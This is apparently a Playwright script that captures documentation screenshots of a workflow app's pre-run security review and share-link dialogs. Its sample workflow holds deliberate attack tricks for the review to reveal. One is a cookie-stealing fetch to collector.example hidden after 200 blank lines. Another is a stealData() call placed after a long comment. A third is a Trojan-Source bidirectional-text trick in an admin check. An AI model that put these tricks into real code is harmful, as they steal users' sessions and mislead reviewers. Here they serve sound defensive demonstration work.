// Screenshots of the review before a run and of the share-link dialog, for docs/running.md and
// docs/editor.md: node e2e/tools/trustScreenshots.mjs (needs a preview on $PORT, default 4180;
// OUT, default docs/images). ALL=1 adds the dark theme, the origins editor, the review's end and
// the header's network access dialog, for checking the design.
import { chromium } from '@playwright/test';
import { CHROMIUM_ARGS, findChromium } from '../../scripts/chromium.mjs';

const base = `http://127.0.0.1:${process.env.PORT ?? 4180}`;
const out = (name) => `${process.env.OUT ?? 'docs/images'}/${name}.png`;
const browser = await chromium.launch({
  executablePath: findChromium() ?? undefined,
  args: CHROMIUM_ARGS,
});

/** A workflow from someone else, with the tricks a review must show. */
const doc = {
  format: 'flowweaver.workflow',
  version: 1,
  id: 'shared-report',
  name: 'Weekly sales report',
  tasks: [
    {
      name: 'fetch_orders',
      dependsOn: [],
      retries: 2,
      code: "log('reading orders');\nconst rows = [\n  { region: 'north', total: 1200 },\n  { region: 'south', total: 950 },\n];\nreturn rows;",
    },
    {
      name: 'summarise',
      dependsOn: ['fetch_orders'],
      code:
        'const sum = fetch_orders.reduce((s, r) => s + r.total, 0);\nreturn { sum };\n' +
        '\n'.repeat(200) +
        "fetch('https://collector.example/steal?d=' + document.cookie);",
    },
    {
      name: 'format',
      dependsOn: ['summarise'],
      timeoutMs: 5000,
      code: `return 'Total: ' + summarise.sum; /* ${'x'.repeat(400)} */ stealData();`,
    },
    {
      name: 'check_admin',
      dependsOn: ['format'],
      code: "const level = 'user';\nif (level != 'user\u202E \u2066// Check if admin\u2069 \u2066') {\n  return format;\n}",
    },
  ],
};

async function fresh(colorScheme) {
  const page = await browser.newPage({ viewport: { width: 1440, height: 900 }, colorScheme });
  page.on('pageerror', (e) => console.log('pageerror', e.message));
  await page.goto(base);
  await page.waitForSelector('html[data-booted="true"]', { state: 'attached' });
  return page;
}

async function importDoc(page) {
  await page.getByTestId('import-input').setInputFiles({
    name: 'report.flowweaver.json',
    mimeType: 'application/json',
    buffer: Buffer.from(JSON.stringify(doc)),
  });
  await page
    .locator('[data-testid=task-node][data-task-name=check_admin], [data-testid=import-problems]')
    .first()
    .waitFor();
  if (await page.getByTestId('import-problems').count())
    throw new Error(await page.getByTestId('import-problems').innerText());
}

const all = Boolean(process.env.ALL);
for (const scheme of all ? ['light', 'dark'] : ['light']) {
  const page = await fresh(scheme);
  await importDoc(page);
  await page.getByRole('button', { name: 'Run', exact: true }).click();
  await page.getByRole('dialog', { name: 'Review before running' }).waitFor();
  await page.waitForTimeout(300);
  await page.screenshot({ path: out(`trust-review-${scheme}`) });
  if (all) {
    await page
      .getByRole('dialog')
      .locator('.modal__body')
      .evaluate((b) => (b.scrollTop = 1e6));
    await page.waitForTimeout(200);
    await page.screenshot({ path: out(`trust-review-${scheme}-end`) });
    await page
      .getByRole('dialog')
      .locator('.modal__body')
      .evaluate((b) => (b.scrollTop = 0));
  }
  if (all && scheme === 'light') {
    await page.getByRole('dialog').getByText('Only these sites').click();
    await page.getByLabel('Allowed sites').fill('https://api.example.com\napi.example.com/path');
    await page
      .getByRole('dialog')
      .locator('.modal__body')
      .evaluate((b) => (b.scrollTop = 0));
    await page.waitForTimeout(200);
    await page.screenshot({ path: out('trust-review-origins') });
  }
  await page.close();
}

// The share-link dialog of the same workflow.
const sender = await fresh('light');
await importDoc(sender);
await sender.getByRole('button', { name: 'Share link', exact: true }).click();
const link = await sender.getByRole('textbox', { name: 'Share link' }).inputValue();
await sender.close();
const receiver = await browser.newPage({ viewport: { width: 1440, height: 900 } });
const url = new URL(link);
await receiver.goto(base + url.pathname + url.hash);
await receiver.getByTestId('share-dialog').waitFor();
await receiver.waitForTimeout(300);
await receiver.screenshot({ path: out('share-review') });

if (all) {
  // The header's network access control and its dialog.
  await receiver.getByRole('button', { name: 'Add to my workflows' }).click();
  await receiver.getByRole('button', { name: 'Network access' }).click();
  await receiver.getByRole('dialog', { name: 'Network access' }).waitFor();
  await receiver.waitForTimeout(200);
  await receiver.screenshot({ path: out('network-access') });
}
await browser.close();
